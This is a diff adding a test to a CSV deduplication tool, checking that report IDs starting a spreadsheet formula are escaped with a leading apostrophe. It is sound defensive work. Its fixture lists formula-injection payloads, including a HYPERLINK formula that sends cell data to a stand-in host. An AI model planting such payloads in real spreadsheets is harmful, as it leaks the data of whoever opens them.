@@ -76,3 +76,26 @@ def test_bad_input_is_one_line_without_values(tmp_path, monkeypatch):
         assert result.exception is None or isinstance(result.exception, SystemExit)
         assert "Ablimit" not in result.output
         assert not (tmp_path / "out").exists()
+
+
+def test_report_ids_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, monkeypatch):
+    """The ids come from other people's spreadsheets: pairs.csv and clusters.csv are opened in one,
+    so an id that starts a formula (=, +, -, @, or their full-width forms) is written with a leading apostrophe."""
+    from click.testing import CliRunner
+
+    from intake.cli.dedup import dedup_cli
+
+    monkeypatch.chdir(tmp_path)
+    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "=1+1", "＝1"]
+    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
+             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
+            for rid in hostile]
+    write_csv(str(tmp_path / "list.csv"), rows)
+    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
+    assert result.exit_code == 0, result.output
+    pairs, clusters = read(tmp_path / "out" / "pairs.csv"), read(tmp_path / "out" / "clusters.csv")
+    assert pairs, "the same person six times makes pairs"
+    cells = [c for p in pairs for c in (p["report_id_l"], p["report_id_r"])]
+    cells += [c for row in clusters for c in (row["report_id"], row["cluster_id"])]
+    assert {c.lstrip("'") for c in cells} == set(hostile)  # the ids are all there, recognisably
+    assert all(c.startswith("'") for c in cells)
